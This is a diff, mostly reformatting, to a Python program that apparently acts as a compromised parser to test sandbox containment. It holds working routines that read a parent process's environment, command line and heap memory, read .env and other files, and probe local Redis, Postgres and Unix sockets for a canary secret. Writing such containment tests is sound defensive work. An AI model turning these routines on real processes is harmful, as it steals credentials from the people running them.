@@ -1,6 +1,7 @@
 """A parser that was taken over: it tries whatever a stranger would try, and reports what it got.
 
-Uses the standard library alone. As a reader it hears its targets on standard input; as a program, as its argument.
+Uses the standard library alone. As a reader it hears its targets on standard input; as a program, as its
+argument.
 """
 
 import ctypes
@@ -20,7 +21,13 @@ from typing import Any
 SECRET = re.compile(rb"tga-secret-[a-z0-9-]+")
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
 NEW_USER_NAMESPACE = 0x10000000
-X86_64 = {"process_vm_readv": 310, "io_uring_setup": 425, "add_key": 248, "pidfd_open": 434, "memfd_create": 319}
+X86_64 = {
+    "process_vm_readv": 310,
+    "io_uring_setup": 425,
+    "add_key": 248,
+    "pidfd_open": 434,
+    "memfd_create": 319,
+}
 ALREADY_OPEN = 3
 """Standard input, output and errors belong to whoever started it."""
 
@@ -58,7 +65,9 @@ def read_files(paths: Iterable[str]) -> list[str]:
 
 def read_environment(parent: int) -> list[str]:
     own = json.dumps(dict(os.environ)).encode()
-    return secrets_in(own) + read_files([f"/proc/{parent}/environ", "/proc/self/environ", f"/proc/{parent}/cmdline"])
+    return secrets_in(own) + read_files(
+        [f"/proc/{parent}/environ", "/proc/self/environ", f"/proc/{parent}/cmdline"]
+    )
 
 
 def read_memory(parent: int) -> list[str]:
@@ -87,10 +96,17 @@ def read_open_files(parent: int) -> list[str]:
 
 def peek_at_memory(parent: int) -> list[str]:
     """By process_vm_readv, where the heap is."""
-    line = next(one for one in Path(f"/proc/{parent}/maps").read_text(encoding="ascii").splitlines() if "[heap]" in one)
+    line = next(
+        one
+        for one in Path(f"/proc/{parent}/maps").read_text(encoding="ascii").splitlines()
+        if "[heap]" in one
+    )
     begin, end = (int(number, 16) for number in line.split()[0].split("-"))
     kept = ctypes.create_string_buffer(end - begin)
-    here, there = (ctypes.c_size_t * 2)(ctypes.addressof(kept), end - begin), (ctypes.c_size_t * 2)(begin, end - begin)
+    here, there = (
+        (ctypes.c_size_t * 2)(ctypes.addressof(kept), end - begin),
+        (ctypes.c_size_t * 2)(begin, end - begin),
+    )
     one = ctypes.c_ulong(1)
     system_call("process_vm_readv", ctypes.c_int(parent), here, one, there, one, ctypes.c_ulong(0))
     return [*secrets_in(kept.raw), "read"]
@@ -208,15 +224,21 @@ def attacks(at: dict[str, Any]) -> dict[str, dict[str, Callable[[], list[str]]]]
             "memory": lambda: read_memory(parent),
             "memory-by-call": lambda: peek_at_memory(parent),
             "open-files": lambda: read_open_files(parent),
-            "working-directory": lambda: read_files([".env", f"/proc/{parent}/cwd/.env", f"/proc/{parent}/root{at['files'][0]}"]),
+            "working-directory": lambda: read_files(
+                [".env", f"/proc/{parent}/cwd/.env", f"/proc/{parent}/root{at['files'][0]}"]
+            ),
             **{f"file-{Path(path).name}": partial(read_files, [path]) for path in at["files"]},
         },
         "sockets": {
             "redis": lambda: ask(socket.AF_INET, ("127.0.0.1", at["redis_port"]), b"GET tga-secret-test\r\n"),
-            "postgres": lambda: ask(socket.AF_INET, ("127.0.0.1", at["postgres_port"]), bytes.fromhex("0000000804d2162f")),
+            "postgres": lambda: ask(
+                socket.AF_INET, ("127.0.0.1", at["postgres_port"]), bytes.fromhex("0000000804d2162f")
+            ),
             "http": lambda: ask(socket.AF_INET, ("127.0.0.1", at["http_port"]), b"GET / HTTP/1.0\r\n\r\n"),
             "unix-path": lambda: ask(socket.AF_UNIX, at["unix_path"], b"GET / HTTP/1.0\r\n\r\n"),
-            "unix-abstract": lambda: ask(socket.AF_UNIX, "\0" + at["unix_abstract"], b"GET / HTTP/1.0\r\n\r\n"),
+            "unix-abstract": lambda: ask(
+                socket.AF_UNIX, "\0" + at["unix_abstract"], b"GET / HTTP/1.0\r\n\r\n"
+            ),
             "datagram": lambda: send_datagram(at["http_port"]),
             "listening": listen,
             "netlink": open_netlink,
@@ -246,7 +268,9 @@ def attempt(attack: Callable[[], list[str]]) -> list[str]:
 
 
 def attack_everything(at: dict[str, Any]) -> dict[str, dict[str, list[str]]]:
-    return {kind: {name: attempt(attack) for name, attack in some.items()} for kind, some in attacks(at).items()}
+    return {
+        kind: {name: attempt(attack) for name, attack in some.items()} for kind, some in attacks(at).items()
+    }
 
 
 def main() -> None:
